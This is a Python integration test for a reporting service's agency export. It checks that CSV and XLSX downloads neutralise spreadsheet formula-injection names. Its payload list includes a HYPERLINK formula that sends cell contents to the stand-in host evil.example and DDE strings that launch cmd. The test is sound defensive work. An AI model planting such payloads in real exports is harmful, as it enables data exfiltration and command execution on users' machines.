"""Agencies with hostile names, folded by the live service, exported by its API as text only."""

from __future__ import annotations

import csv
import io
import random

import httpx
import pytest
from aiokafka import AIOKafkaProducer
from openpyxl import load_workbook

from tests.integration.reporting.dataset import Published, publish, registered
from tests.support import auth, uscc_for, wait_for

pytestmark = pytest.mark.infra

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
]
AGENCIES = "/agencies?unit=zhongyuan&limit=10000"


def hostile_agencies() -> dict[str, str]:
    """Fresh credit codes each run: the shared broker keeps earlier runs' events."""
    serials = random.sample(range(31**7, 31**8), len(HOSTILE))
    return {uscc_for(s, unit_code="410102"): name for s, name in zip(serials, HOSTILE, strict=True)}


def registrations(agencies: dict[str, str]) -> list[Published]:
    items = []
    for i, (uscc, name) in enumerate(agencies.items()):
        plain = registered(i, uscc, "zhongyuan", "410102", "2013-03-01")
        hostile = plain.event.model_copy(update={"name": name})
        items.append(Published(f"hostile-{uscc}", hostile, plain.occurred, plain.recorded))
    return items


async def test_exported_agency_names_are_neutralised(
    reporting: httpx.AsyncClient, producer: AIOKafkaProducer
) -> None:
    agencies = hostile_agencies()
    await publish(producer, registrations(agencies))

    async def folded() -> bool:
        response = await reporting.get(AGENCIES, headers=auth())
        listed = {a["uscc"] for a in response.json()["items"]}
        return set(agencies) <= listed

    await wait_for(folded, timeout=60)

    response = await reporting.get(AGENCIES + "&format=csv", headers=auth())
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[0]: row[1] for row in table[1:] if row[0] in agencies}
    assert names == {uscc: "'" + name for uscc, name in agencies.items()}

    response = await reporting.get(AGENCIES + "&format=xlsx", headers=auth())
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2) if row[0].value in agencies}
    assert {uscc: cell.value for uscc, cell in cells.items()} == names
    assert {cell.data_type for cell in cells.values()} == {"s"}
